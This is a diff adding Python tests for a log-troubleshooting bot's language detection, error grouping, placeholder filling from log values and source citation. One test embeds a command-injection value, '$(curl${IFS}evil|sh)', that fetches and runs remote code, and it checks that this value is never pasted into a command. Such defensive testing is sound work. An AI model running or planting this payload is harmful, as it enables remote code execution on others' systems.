@@ -232,3 +232,59 @@ def test_the_fitted_calibration_ships_and_is_used(engine):
     assert CALIBRATION_FILE.exists() and engine.status()["calibrated"]
     loaded = Calibrator.load()
     assert loaded.log is not None and loaded.question is not None
+
+
+def test_reply_language_is_the_persons_not_the_logs(engine):
+    # A Chinese sentence above a long English traceback: the person reads Chinese.
+    text = "服务起不来，帮忙看看\n" + OOM_TRACE
+    assert engine.answer(text).lang == "zh"
+    # An English question that quotes garbled output or a Chinese folder stays English.
+    assert engine.answer("model answers are gibberish like 'ĠĠ的的的', what to check?").lang == "en"
+    assert engine.answer("OSError: /home/用户/models/qwen/config.json not found, what now?").lang == "en"
+    # The user can force it.
+    forced = engine.answer("服务起不来\n" + OOM_TRACE, lang="en")
+    assert forced.lang == "en" and forced.results and "memory" in forced.results[0].title.lower()
+
+
+def test_two_distinct_errors_are_both_marked_distinct(engine):
+    answer = engine.answer(OOM_TRACE + "\n[INFO] restarting\n" + SOCKET_LOG)
+    assert [h.distinct for h in answer.results[:2]] == [True, True]
+    assert not engine.answer(SOCKET_LOG).results[0].distinct
+
+
+def test_values_in_the_log_fill_placeholders_and_the_rest_get_hints(engine):
+    answer = engine.answer("[ERROR] Socket bind failed, ip 172.17.0.3 port 40032")
+    runs = [c.run for c in answer.results[0].command_details]
+    assert any("40032" in run for run in runs) and not any("{port}" in run for run in runs)
+    # No port in the question: the placeholder stays, with a hint in the reply language.
+    zh = engine.answer("部署的时候报 Socket bind failed 是怎么回事")
+    unfilled = [p for c in zh.results[0].command_details for p in c.unfilled]
+    assert unfilled and all(p.hint and any("\u4e00" <= ch <= "\u9fff" for ch in p.hint) for p in unfilled)
+
+
+def test_log_facts_are_read_with_re2_and_stay_safe():
+    from bot.engine.engine import fill
+    from bot.engine.logfacts import captures_for, log_facts
+
+    facts = log_facts([
+        "INFO start",
+        'config: "modelWeightPath": "/data/models/qwen2-7b",',
+        "RuntimeError: Failed to listen 172.17.0.3:40032",
+        "ImportError: libhccl.so: cannot open shared object file: No such file or directory",
+        "EE1001 Set visible device failed, invalid device=6",
+    ])
+    assert facts["port"] == "40032" and facts["ip"] == "172.17.0.3"
+    assert facts["model_path"] == "/data/models/qwen2-7b" and facts["lib"] == "libhccl.so" and facts["device"] == "6"
+    captures = captures_for(facts)
+    assert fill("chmod 640 {model_path}/config.json", captures) == "chmod 640 /data/models/qwen2-7b/config.json"
+    # A value that is not safe for its placeholder's type is never pasted into a command.
+    hostile = captures_for(log_facts(['"modelWeightPath": "/$(curl${IFS}evil|sh)/x"']))
+    assert "curl" not in fill("ls {model_path}", hostile)
+    # Linear time on a hostile line.
+    assert log_facts(["port " + "9" * 100_000, "(" * 50_000]) is not None
+
+
+def test_every_answer_names_its_source(engine):
+    answer = engine.answer(SOCKET_LOG)
+    top = answer.results[0]
+    assert top.source and top.source_url and top.source_url.startswith("https://")
